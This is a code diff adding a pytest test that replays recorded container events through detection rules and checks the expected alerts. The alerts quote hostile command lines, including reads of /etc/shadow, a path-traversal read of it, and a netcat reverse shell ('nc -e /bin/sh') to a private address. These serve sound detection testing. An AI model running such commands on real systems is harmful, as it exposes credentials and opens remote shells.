@@ -151,3 +151,17 @@ def test_fetch(tmp_path: Path) -> None:
     with pytest.raises(LabError, match="Can't fetch"):
         fetch(tmp_path / "none", url=url)
     assert not (tmp_path / "none").exists()
+
+
+def test_the_recorded_visit_of_the_workshop(workshop: Path) -> None:
+    events = workshop / "custom-rules/recorded/visit.jsonl.gz"
+    values = workshop / "custom-rules/whoami.yaml"
+    code, output = _run("replay", "--default-rules", "--values", str(values), "--events", str(events))
+    assert code == 0
+    alerts = [json.loads(line) for line in output.splitlines()]
+    assert [(alert["rule"], alert["output_fields"]["proc.cmdline"]) for alert in alerts] == [
+        ("Whoami run in container", "whoami"),
+        ("Read sensitive file untrusted", "cat /etc/shadow"),
+        ("Read sensitive file untrusted", "cat /var/www/../../etc/shadow"),
+        ("Netcat Remote Code Execution in Container", "nc -e /bin/sh 10.88.0.1 4444"),
+    ]
